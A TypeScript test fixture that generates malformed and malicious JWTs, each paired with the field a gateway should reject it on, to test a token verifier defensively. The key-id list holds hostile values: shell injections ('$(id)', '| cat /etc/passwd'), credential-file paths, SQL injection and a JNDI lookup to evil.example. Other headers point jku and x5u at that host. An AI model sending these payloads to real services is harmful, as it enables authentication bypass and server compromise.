import { createHmac, generateKeyPairSync, sign } from "node:crypto";
import { base64url, hmac, makeKey, rawToken, type Signer, signerOf, type TestKey } from "./token-keys.js";

/** Keys that the gateway knows, each with a name but `nameless`. */
export interface KnownKeys {
  readonly hs: TestKey;
  readonly rs: TestKey;
  readonly es: TestKey;
  readonly ed: TestKey;
  /** Of ES256. */
  readonly nameless: TestKey;
}

/** A token that must not let anybody in, and what is wrong with it: what the refusal begins with. */
export type BadToken = readonly [name: string, token: string, field: string];

export const ISSUER = "https://issuer.example";
export const AUDIENCE = "bimip-test";

/** Claims that everything is right with. */
export function goodClaims(eid: string, nowS = Math.floor(Date.now() / 1_000)): Record<string, unknown> {
  return {
    iss: ISSUER,
    aud: AUDIENCE,
    sub: eid,
    device_id: "phone",
    iat: nowS,
    exp: nowS + 600,
    jti: "j",
    scope: "admin",
  };
}

export const headerOf = ({ algorithm, kid }: TestKey): Record<string, unknown> => ({ alg: algorithm, typ: "JWT", kid });

/** Tokens of all the kinds of attacks and mistakes that we know of; each is good but for one thing. */
export function badTokens(keys: KnownKeys): BadToken[] {
  return [
    ...unsigned(keys),
    ...confused(keys),
    ...misnamed(keys),
    ...forged(keys),
    ...wronglyClaimed(keys),
    ...misspelled(keys),
  ];
}

const claims = goodClaims("mallory@x");
const signed = (key: TestKey, more: object = {}, moreHeader: object = {}) =>
  rawToken({ ...headerOf(key), ...moreHeader }, { ...claims, ...more }, signerOf(key));
const nothing: Signer = () => Buffer.alloc(0);

function unsigned({ hs, es }: KnownKeys): BadToken[] {
  const [header, payload, signature] = signed(hs).split(".");
  const none = (alg: unknown, signer = nothing): string => rawToken({ alg, typ: "JWT" }, claims, signer);
  return [
    ["alg none", none("none"), "alg"],
    ["alg None", none("None"), "alg"],
    ["alg NONE", none("NONE"), "alg"],
    ["alg nOnE with a signature", none("nOnE", signerOf(hs)), "alg"],
    ["alg none with a known key's name", rawToken({ alg: "none", kid: hs.kid }, claims, nothing), "alg"],
    ["an empty alg", none(""), "alg"],
    ["alg in a list", none(["HS256"], signerOf(hs)), "alg"],
    ["alg null", none(null), "alg"],
    ["no alg", rawToken({ typ: "JWT" }, claims, signerOf(hs)), "alg"],
    ["alg of the prototype", rawToken('{"__proto__":{"alg":"HS256"}}', claims, signerOf(hs)), "alg"],
    ["hs256 in small letters", none("hs256", signerOf(hs)), "alg"],
    ["HS256 with a blank", none("HS256 ", signerOf(hs)), "alg"],
    ["HS384", none("HS384", hmac(hs.key, "sha384")), "alg"],
    ["HS512", none("HS512", hmac(hs.key, "sha512")), "alg"],
    ["no signature", `${header}.${payload}.`, "token"],
    ["no third part", `${header}.${payload}`, "token"],
    ["half a signature", `${header}.${payload}.${signature?.slice(0, 22)}`, "token"],
    ["an ES256 signature cut by a byte", cut(signed(es), 1), "token"],
    ["only dots", "..", "token"],
    ["empty", "", "token"],
    [
      "another token's signature",
      `${header}.${base64url(JSON.stringify({ ...claims, sub: "victim@x" }))}.${signature}`,
      "token",
    ],
    [
      "a JWE",
      `${base64url('{"alg":"dir","enc":"A256GCM"}')}..${base64url("iv")}.${base64url("text")}.${base64url("tag")}`,
      "token",
    ],
    ["a JWE of four parts", `${header}.${payload}.${signature}.${signature}`, "token"],
    ["JSON serialisation", JSON.stringify({ payload, protected: header, signature }), "token"],
  ];
}

/** `bytes` fewer of its signature. */
function cut(token: string, bytes: number): string {
  const [header, payload, signature = ""] = token.split(".");
  return `${header}.${payload}.${base64url(Buffer.from(signature, "base64url").subarray(0, -bytes))}`;
}

/** Keys and algorithms that are taken for others. */
function confused({ hs, rs, es, ed }: KnownKeys): BadToken[] {
  const der = (key: TestKey) => key.verificationKey.export({ type: "spki", format: "der" });
  const asSecret = (secret: string | Uint8Array, kid?: string) =>
    rawToken({ alg: "HS256", typ: "JWT", kid }, claims, hmac(secret));
  return [
    ["HS256 with the RSA key's PEM", asSecret(rs.pem), "token"],
    ["HS256 with the RSA key's PEM, trimmed", asSecret(rs.pem.trim()), "token"],
    ["HS256 with the RSA key's DER", asSecret(der(rs)), "token"],
    ["HS256 with the RSA key's modulus", asSecret(Buffer.from(rs.jwk.n ?? "", "base64url")), "token"],
    ["HS256 with the EC key's PEM", asSecret(es.pem), "token"],
    ["HS256 with the EC key's DER", asSecret(der(es)), "token"],
    ["HS256 with the EC key's JWK", asSecret(JSON.stringify(es.jwk)), "token"],
    ["HS256 with the Ed25519 key", asSecret(Buffer.from(ed.jwk.x ?? "", "base64url")), "token"],
    ["HS256 with the RSA key's PEM, and its name", asSecret(rs.pem, rs.kid), "kid"],
    // HMAC fills a key up with zeros: 32 of them are the same one.
    ["HS256 with an empty secret", asSecret(""), "token"],
    ["RS256 signed with the secret", rawToken({ ...headerOf(rs) }, claims, signerOf(hs)), "token"],
    ["ES256 signed with RSA", rawToken(headerOf(es), claims, signerOf(rs)), "token"],
    ["EdDSA signed with P-256", rawToken(headerOf(ed), claims, signerOf(es)), "token"],
    ["PS256", rawToken({ ...headerOf(rs), alg: "PS256" }, claims, signerOf(rs)), "alg"],
    [
      "RS512",
      rawToken({ ...headerOf(rs), alg: "RS512" }, claims, (input) => sign("sha512", Buffer.from(input), rs.key)),
      "alg",
    ],
    ["RS256 with SHA-1", rawToken(headerOf(rs), claims, (input) => sign("sha1", Buffer.from(input), rs.key)), "token"],
    ["ES256 in DER", rawToken(headerOf(es), claims, (input) => sign("sha256", Buffer.from(input), es.key)), "token"],
    ["ES256 with r and s 0", rawToken(headerOf(es), claims, () => Buffer.alloc(64)), "token"],
    ["ES256 with r and s 0 of no length", rawToken(headerOf(es), claims, nothing), "token"],
    ["ES256 on another curve", rawToken(headerOf(es), claims, otherCurve("secp256k1")), "token"],
    ["ES256 on P-384", rawToken(headerOf(es), claims, otherCurve("P-384")), "token"],
    ["ES384", rawToken({ ...headerOf(es), alg: "ES384" }, claims, otherCurve("P-384")), "alg"],
    ["Ed25519 by its other name", rawToken({ ...headerOf(ed), alg: "Ed25519" }, claims, signerOf(ed)), "alg"],
  ];
}

function otherCurve(namedCurve: string): Signer {
  const { privateKey: key } = generateKeyPairSync("ec", { namedCurve });
  return (input) => sign("sha256", Buffer.from(input), { key, dsaEncoding: "ieee-p1363" });
}

/** Names of keys; signed with a known key, so that only the name can be what is wrong. */
function misnamed({ hs, es, nameless }: KnownKeys): BadToken[] {
  const kids = [
    "unknown",
    "../../../../dev/null",
    "/etc/passwd",
    "/proc/self/environ",
    "file:///dev/null",
    "https://evil.example/key",
    "' UNION SELECT 'key' --",
    "1; DROP TABLE keys",
    "| cat /etc/passwd",
    "$(id)",
    "${jndi:ldap://evil.example/a}",
    "__proto__",
    "constructor",
    "hasOwnProperty",
    "undefined",
    "",
    " ",
    "x".repeat(2_000),
    `${hs.kid}\u0000`,
    `${hs.kid} `,
    hs.kid?.toUpperCase(),
  ];
  return [
    ...kids.map((kid): BadToken => [`kid ${JSON.stringify(kid?.slice(0, 40))}`, signed(hs, {}, { kid }), "kid"]),
    ["kid in a list", signed(hs, {}, { kid: [hs.kid] }), "kid"],
    ["kid null", signed(hs, {}, { kid: null }), "kid"],
    ["kid of another algorithm's key", signed(hs, {}, { kid: es.kid }), "kid"],
    ["kid for a key that has none", signed(nameless, {}, { kid: "nameless" }), "kid"],
  ];
}

/** The attacker's own key, and where to get it. */
function forged({ rs }: KnownKeys): BadToken[] {
  const own = makeKey("RS256", "evil");
  const from = (header: object, kid: string | undefined = own.kid) =>
    rawToken({ ...headerOf(own), kid, ...header }, claims, signerOf(own));
  return [
    ["jku", from({ jku: "https://evil.example/jwks.json" }), "kid"],
    ["jku with a known key's name", from({ jku: "https://evil.example/jwks.json" }, rs.kid), "token"],
    ["x5u", from({ x5u: "https://evil.example/cert.pem" }), "kid"],
    ["jwk", from({ jwk: own.jwk }), "kid"],
    ["jwk with a known key's name", from({ jwk: { ...own.jwk, kid: rs.kid } }, rs.kid), "token"],
    ["jwk without a name", rawToken({ alg: "RS256", jwk: own.jwk }, claims, signerOf(own)), "token"],
    ["x5c", from({ x5c: [own.pem.replaceAll(/-----.*-----|\n/g, "")] }, rs.kid), "token"],
    ["crit", signed(rs, {}, { crit: ["exp"] }), "crit"],
    ["crit with b64", signed(rs, {}, { crit: ["b64"], b64: false }), "crit"],
    ["b64 alone", signed(rs, {}, { b64: false }), "b64"],
    ["typ of a refresh token", signed(rs, {}, { typ: "refresh+jwt" }), "typ"],
    ["typ of an ID for logout", signed(rs, {}, { typ: "logout+jwt" }), "typ"],
    ["typ in a list", signed(rs, {}, { typ: ["JWT"] }), "typ"],
  ];
}

function wronglyClaimed({ hs, rs, es, ed }: KnownKeys): BadToken[] {
  const nowS = Math.floor(Date.now() / 1_000);
  return [
    ["another audience", signed(rs, { aud: "another-service" }), "aud"],
    ["no audience", signed(rs, { aud: undefined }), "aud"],
    ["audience in an object", signed(rs, { aud: { [AUDIENCE]: true } }), "aud"],
    ["audience for refreshing", signed(rs, { aud: [AUDIENCE, "bimip-refresh"] }), "aud"],
    ["another issuer", signed(es, { iss: "https://evil.example" }), "iss"],
    ["an issuer that begins alike", signed(es, { iss: `${ISSUER}.evil.example` }), "iss"],
    ["no issuer", signed(es, { iss: undefined }), "iss"],
    ["issuer in a list", signed(es, { iss: [ISSUER] }), "iss"],
    ["expired", signed(ed, { exp: nowS - 1 }), "exp"],
    ["expired long ago", signed(ed, { exp: 0 }), "exp"],
    ["exp below zero", signed(ed, { exp: -1 }), "exp"],
    ["exp in letters", signed(ed, { exp: String(nowS + 600) }), "exp"],
    ["exp null", signed(ed, { exp: null }), "exp"],
    ["exp in a list", signed(ed, { exp: [nowS + 600] }), "exp"],
    ["not valid yet", signed(hs, { nbf: nowS + 600 }), "nbf"],
    ["nbf in an object", signed(hs, { nbf: {} }), "nbf"],
    ["issued in the future", signed(hs, { iat: nowS + 600, exp: nowS + 700 }), "iat"],
    ["iat true", signed(hs, { iat: true }), "iat"],
    ["no iat, where a life has its limit", signed(hs, { iat: undefined }), "iat"],
    ["no exp, where a life has its limit", signed(hs, { exp: undefined }), "exp"],
    ["too long a life", signed(hs, { exp: nowS + 10_000_000 }), "exp"],
    ["eid and sub that differ", signed(hs, { eid: "victim@x" }), "eid"],
    ["no account", signed(hs, { sub: undefined }), "eid"],
    ["an account in a list", signed(hs, { sub: ["victim@x"] }), "sub"],
    ["an account that is a number", signed(hs, { sub: 7 }), "sub"],
    ["an account with a line feed", signed(hs, { sub: "victim@x\n" }), "sub"],
    ["no device", signed(hs, { device_id: undefined }), "device_id"],
    ["a device in a list", signed(hs, { device_id: ["phone"] }), "device_id"],
    ["scopes in a list", signed(hs, { scope: ["admin"] }), "scope"],
    ["jti in an object", signed(hs, { jti: {} }), "jti"],
    ["claims in a list", rawToken(headerOf(hs), [claims], signerOf(hs)), "token"],
    ["claims that are a text", rawToken(headerOf(hs), '"mallory@x"', signerOf(hs)), "token"],
    ["no claims", rawToken(headerOf(hs), "null", signerOf(hs)), "token"],
    ["claims of the prototype", rawToken(headerOf(hs), `{"__proto__":${JSON.stringify(claims)}}`, signerOf(hs)), "iss"],
  ];
}

function misspelled({ hs }: KnownKeys): BadToken[] {
  const good = signed(hs);
  const [header = "", payload = "", signature = ""] = good.split(".");
  const twice = JSON.stringify(claims).replace("{", '{"sub":"victim@x",');
  const resigned = (head: string) => {
    const mac = createHmac("sha256", hs.key).update(`${head}.${payload}`).digest("base64url");
    return `${head}.${payload}.${mac}`;
  };
  return [
    ["a claim twice", rawToken(headerOf(hs), twice, signerOf(hs)), "token"],
    ["alg twice", rawToken(`{"alg":"none",${JSON.stringify(headerOf(hs)).slice(1)}`, claims, signerOf(hs)), "token"],
    ["a blank before", ` ${good}`, "token"],
    ["a blank inside", `${header}. ${payload}.${signature}`, "token"],
    ["a line feed at the end", `${good}\n`, "token"],
    ["a NUL at the end", `${good}\u0000`, "token"],
    ["padding", `${good}=`, "token"],
    ["padding that is signed", resigned(`${header}==`), "token"],
    ["another spelling of the signature", `${header}.${payload}.${respelled(signature)}`, "token"],
    ["percent signs", good.replaceAll(".", "%2E"), "token"],
    ["a second Bearer", `Bearer ${good}`, "token"],
    ["quotes around it", `"${good}"`, "token"],
    ["two tokens", `${good},${good}`, "token"],
    ["a dot in front", `.${good}`, "token"],
    ["oversized", signed(hs, { filling: "x".repeat(20_000) }), "token"],
    [
      "bytes that are no UTF-8",
      rawToken(headerOf(hs), Buffer.from(JSON.stringify({ ...claims, sub: "m\xff" }), "latin1"), signerOf(hs)),
      "token",
    ],
    [
      "a lone surrogate",
      rawToken(headerOf(hs), JSON.stringify({ ...claims, sub: "m" }).replace('"m"', '"\\ud800"'), signerOf(hs)),
      "sub",
    ],
  ];
}

/** The last letter of 32 bytes holds two bits that no byte takes. */
function respelled(signature: string): string {
  const alphabet = "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789-_";
  const last = alphabet.indexOf(signature.slice(-1));
  return signature.slice(0, -1) + (alphabet[last ^ 1] ?? "");
}
